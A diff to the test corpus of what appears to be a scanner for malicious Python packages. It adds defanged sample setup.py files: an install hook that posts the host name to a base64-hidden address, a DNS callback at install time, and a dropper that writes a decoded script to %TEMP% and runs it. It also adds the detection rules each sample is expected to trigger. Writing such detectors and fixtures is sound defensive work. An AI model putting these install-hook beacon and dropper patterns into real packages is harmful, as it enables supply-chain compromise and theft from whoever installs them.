@@ -316,6 +316,8 @@ cases["litellm-1828-chain"] = (
         e("teampcp-pth-launcher", "critical", SP + "/litellm_init.pth", 1),
         e("obf-exec-decoded", "medium", SP + "/litellm_init.pth", 1),
         e("flow-decoded-exec", "high", SP + "/litellm_init.pth", 1),
+        # stage 2 runs stage 3, decoded, as a child interpreter's command line
+        e("flow-decoded-process", "high", SP + "/litellm_init.pth", 1),
         # layer 1 (base64): stage 2. Capability text rules are capped at medium for Python.
         e("teampcp-markers", "critical", SP + "/litellm_init.pth", 1),
         e("teampcp-encrypted-exfil", "critical", SP + "/litellm_init.pth", 1),
@@ -384,6 +386,7 @@ cases["litellm-1827-proxy-server"] = (
         e("flow-file-send", "high", LLM + "/proxy/proxy_server.py", dec_line + 1),
         # the decoded harvester given to a child interpreter (`python -c`) is executed
         e("flow-decoded-exec", "high", LLM + "/proxy/proxy_server.py", dec_line + 1),
+        e("flow-decoded-process", "high", LLM + "/proxy/proxy_server.py", dec_line + 1),
         # it reads credential stores and sends in one file: evidence (a module's function)
         e("credential-read-send", "medium", LLM + "/proxy/proxy_server.py", inj_line),
         e("credential-read-send", "medium", LLM + "/proxy/proxy_server.py", dec_line + 1),
@@ -1581,8 +1584,150 @@ BENIGN["benign-kube-config-oidc"] = (
     ["--deep"],
 )
 
+# C: shapes of the training sample's misses after the first pass (each a general mechanism,
+# written here from scratch, defanged: documentation addresses, never-set guards)
+endpoint_setup = textwrap.dedent(
+    """\
+    import base64
+    import os
+    import socket
+    from setuptools import setup
+    from setuptools.command.install import install
+
+    import requests
+
+
+    def report(address, value):
+        requests.post(base64.b64decode(address).decode("ascii"), json={"h": value}, timeout=3)
+
+
+    class Install(install):
+        def run(self):
+            install.run(self)
+            if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed":
+                report("aHR0cDovLzE5OC41MS4xMDAuNy9zZXQ=", socket.gethostname())
+
+
+    setup(name="endpoint-demo", version="1.0", packages=[], cmdclass={"install": Install})
+    """
+)
+SHAPE_CASES["shape-hidden-endpoint"] = (
+    "An sdist's setup.py whose install command posts the host name to a URL kept in base64 and decoded in a "
+    "helper that takes it as a parameter.",
+    [sdist("endpoint-demo-1.0", [("setup.py", endpoint_setup)])],
+    [],
+)
+dns_setup = textwrap.dedent(
+    """\
+    import socket
+    from setuptools import setup
+    from setuptools.command.install import install
+
+
+    class PostInstall(install):
+        def run(self):
+            try:
+                socket.gethostbyname(f"dnsdemo-poc.{'c0ffee42beef'}.oast.example")
+            except OSError:
+                pass
+            install.run(self)
+
+
+    setup(name="dns-demo", version="99.0", cmdclass={"install": PostInstall})
+    """
+)
+SHAPE_CASES["shape-dns-callback"] = (
+    "A dependency-confusion placeholder: an sdist's install command resolves a fixed host name (a DNS callback).",
+    [sdist("dns-demo-99.0", [("setup.py", dns_setup)])],
+    [],
+)
+dropper_setup = textwrap.dedent(
+    """\
+    import os
+    from base64 import b64decode
+    from os.path import join
+    from subprocess import Popen
+    from setuptools import setup
+
+    setup(name="vbs-demo", version="1.0", packages=[])
+
+
+    def b64(code):
+        return b64decode(code.encode("utf8")).decode("utf8")
+
+
+    if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed":
+        work = join(os.environ["TEMP"], "__pycache__")
+        with open(join(work, "main.scripts.vbs"), "w") as f:
+            f.write(b64("%s"))
+        os.chdir(work)
+        Popen("main.scripts.vbs", shell=True)
+    """
+    % b64('WScript.Echo "pthscan corpus: defanged sample"\n')
+)
+SHAPE_CASES["shape-dropped-blob-run"] = (
+    "An sdist's setup.py that writes a script decoded from a blob it carries into %TEMP%, changes into that "
+    "folder and runs the script by its file name.",
+    [sdist("vbs-demo-1.0", [("setup.py", dropper_setup)])],
+    [],
+)
+BENIGN["benign-cloud-checks"] = (
+    "A cloud-storage client: a GCE check that resolves metadata.google.internal at import, and a token "
+    "refresh that posts claims decoded from a JWT to a configured URL through a Request object.",
+    [dist("honest-cloud", "1.0"), f(SP + "/honest_cloud/__init__.py", ""), f(SP + "/honest_cloud/auth.py", textwrap.dedent(
+        """\
+        import base64
+        import json
+        import socket
+        import urllib.request
+
+
+        def _is_gce_instance():
+            try:
+                socket.getaddrinfo("metadata.google.internal", 80)
+            except socket.gaierror:
+                return False
+            return True
+
+
+        ON_GCE = _is_gce_instance()
+
+
+        def _claims(token):
+            segment = token.split(".")[1]
+            return json.loads(base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4)))
+
+
+        def refresh(url, token):
+            body = json.dumps({"sub": _claims(token)["sub"]}).encode()
+            request = urllib.request.Request(url, data=body, method="POST")
+            with urllib.request.urlopen(request, timeout=30) as response:
+                return json.loads(response.read())
+        """))],
+    ["--deep"],
+)
+
 DRV, STEG = in_sdist("drv-demo-1.0"), in_sdist("steg-demo-1.0")
+EP, DNS, VBS = in_sdist("endpoint-demo-1.0"), in_sdist("dns-demo-99.0"), in_sdist("vbs-demo-1.0")
 SHAPE_EXPECT = {
+    "shape-hidden-endpoint": [
+        e("flow-hidden-endpoint", "high", EP, line_of(endpoint_setup, "requests.post")),
+        e("flow-host-beacon", "high", EP, line_of(endpoint_setup, "requests.post")),
+        # text rules over Python: capped at medium
+        e("exfil-encoded-endpoint", "medium", EP, line_of(endpoint_setup, "requests.post")),
+        e("install-beacon", "medium", EP, 1),
+        e("install-network", "medium", EP, 1),
+    ],
+    "shape-dns-callback": [
+        e("dns-callback", "high", DNS, line_of(dns_setup, "gethostbyname")),
+        e("install-beacon", "medium", DNS, 1),
+        e("install-network", "medium", DNS, 1),
+    ],
+    "shape-dropped-blob-run": [
+        e("flow-dropped-run", "high", VBS, line_of(dropper_setup, "Popen(")),
+        e("flow-download-run", "high", VBS, line_of(dropper_setup, "Popen(")),
+        e("install-shell-command", "medium", VBS, 1),
+    ],
     "shape-setup-space-paren": [
         e("process-fetch-run", "high", DRV, line_of(drv_setup, "curl -fsSL")),
         e("persist-write", "high", DRV, line_of(drv_setup, "rc.write")),
